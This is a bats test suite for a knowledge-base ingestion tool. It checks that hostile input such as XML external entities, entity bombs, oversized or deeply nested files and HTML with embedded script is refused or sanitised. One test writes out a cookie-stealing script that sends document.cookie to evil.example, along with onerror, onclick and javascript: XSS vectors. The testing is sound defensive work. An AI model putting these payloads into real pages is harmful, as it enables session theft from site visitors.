#!/usr/bin/env bats
# Hostile input: what strangers wrote never reaches beyond its row.

load helpers

setup() {
    setup_base
    "$KB" load "$FIXTURES/mini" >/dev/null
}

@test "a feed's external entity is never resolved" {
    run "$KB" ingest "$FIXTURES/feeds/external-entity.xml"
    run sqlite3 kb.db .dump
    [ "$status" -eq 0 ]
    [[ "$output" == *"CREATE TABLE"* ]]
    [[ "$output" != *"root:x:0:0"* ]]
    assert_integrity
}

@test "an entity bomb in a feed is refused quickly, in bounded memory" {
    limit="ulimit -v 400000;"
    [ -n "${KB_SANITIZED:-}" ] && limit=""
    run timeout 20 bash -c "$limit '$KB' ingest '$FIXTURES/feeds/billion-laughs.xml'"
    [ "$status" -eq 1 ]
    [[ "$output" == *"refused"* ]]
}

@test "scripts, event handlers and javascript: links never reach a brief's HTML" {
    cat > evil.html <<'HTML'
<!DOCTYPE html><html><head><title>Acme and the script</title>
<script>document.location='https://evil.example/?c='+document.cookie</script></head>
<body><article>
<p onclick="steal()">Acme Cloud said on Tuesday that its new data center would open next year, and Globex said nothing at all about it.</p>
<p>Read <a href="javascript:alert(1)">the filing</a> and see <img src=x onerror="alert(2)"> the chart. <b onmouseover="x()">More</b> details follow in the second paragraph of this article.</p>
<script>alert(3)</script><style>body{display:none}</style>
</article></body></html>
HTML
    run "$KB" ingest --slug evil-page evil.html
    [ "$status" -eq 0 ]
    run sqlite3 kb.db "SELECT text FROM sources WHERE slug = 'evil-page'"
    [[ "$output" == *"Acme Cloud said on Tuesday"* ]]
    [[ "$output" != *"alert"* && "$output" != *"document.cookie"* && "$output" != *"display:none"* ]]
    # a claim citing it, so that the brief shows the source
    mkdir d && cat > d/c.xml <<'XML'
<kb><claim slug="evil-claim" subject="acme" topic="t" kind="fact" stance="neutral">
<statement>Click <a href="javascript:alert(4)" onclick="x()">here</a> &lt;script&gt;alert(5)&lt;/script&gt;</statement>
<cite source="evil-page"/></claim></kb>
XML
    run "$KB" load d
    [ "$status" -eq 2 ]   # markup inside a statement is not allowed by the grammar
    cat > d/c.xml <<'XML'
<kb><claim slug="evil-claim" subject="acme" topic="t" kind="fact" stance="neutral">
<statement>Click [here](javascript:alert(4)) &lt;script&gt;alert(5)&lt;/script&gt; &lt;img src=x onerror=alert(6)&gt;</statement>
<cite source="evil-page"/></claim></kb>
XML
    run "$KB" load d
    [ "$status" -eq 0 ]
    "$KB" brief --format html -o acme.html acme --as-of 2026-11-28
    refute_grep -qi '<script' acme.html
    refute_grep -qi 'href="javascript' acme.html
    refute_grep -qi '<img' acme.html
    refute_grep -Eqi '<[a-z]+ [^>]*on(error|click|mouseover)=' acme.html
    grep -q '&lt;script&gt;alert(5)&lt;/script&gt;' acme.html
}

@test "a 200 MB file is refused by ingest and by load, in bounded memory" {
    truncate -s 200M huge.html
    truncate -s 200M huge.xml
    run "$KB" ingest huge.html
    [ "$status" -eq 1 ]
    [[ "$output" == *"larger than 64 MiB"* ]]
    before=$(base_digest)
    run "$KB" load huge.xml
    [ "$status" -eq 2 ]
    [[ "$output" == *"larger than 64 MiB"* ]]
    [ "$(base_digest)" = "$before" ]
}

@test "a 10-million-character line is handled" {
    skip_if_valgrind
    python3 -c "
import sys
sys.stdout.write('<!DOCTYPE html><html><head><title>Long</title></head><body><article><p>' + ('Acme builds data centers. ' * 400000) + '</p></article></body></html>')" > long.html
    run timeout 120 "$KB" ingest long.html
    [ "$status" -eq 0 ]
    [ "$(sqlite3 kb.db "SELECT length(text) > 9000000 FROM sources WHERE origin = 'ingested'")" = 1 ]
    python3 -c "
import sys
sys.stdout.write('<kb><company slug=\"long\"><name>' + 'x' * 10000000 + '</name></company></kb>')" > long.xml
    run timeout 120 "$KB" load long.xml
    [ "$status" -eq 0 ]
}

@test "nesting 100,000 deep is refused or handled, never a crash" {
    python3 -c "
import sys
sys.stdout.write('<!DOCTYPE html><html><body>' + '<div>' * 100000 + 'deep text' + '</div>' * 100000 + '<article><p>' + 'Shallow text about Acme and its data centers, long enough to be an article. ' * 5 + '</p></article></body></html>')" > deep.html
    run timeout 60 "$KB" ingest deep.html
    [ "$status" -le 1 ]
    [[ "$output" == *"ingested 1 file"* ]]
    python3 -c "
import sys
sys.stdout.write('<kb>' + '<company slug=\"x\">' * 100000 + '</company>' * 100000 + '</kb>')" > deep.xml
    before=$(base_digest)
    run timeout 60 "$KB" load deep.xml
    [ "$status" -eq 2 ]
    [ "$(base_digest)" = "$before" ]
    assert_integrity
}

@test "an unreadable file is refused with a reason; the rest of the batch goes on" {
    [ "$(id -u)" != 0 ] || skip "root reads every file"
    cp "$BATS_TEST_DIRNAME/../fixtures/ingest/note.md" readable.md
    echo "secret" > unreadable.txt
    chmod 000 unreadable.txt
    run "$KB" ingest unreadable.txt readable.md
    [ "$status" -eq 1 ]
    [[ "$output" == *"unreadable.txt: refused: Permission denied"* ]]
    [[ "$output" == *"1 stored"* ]]
}
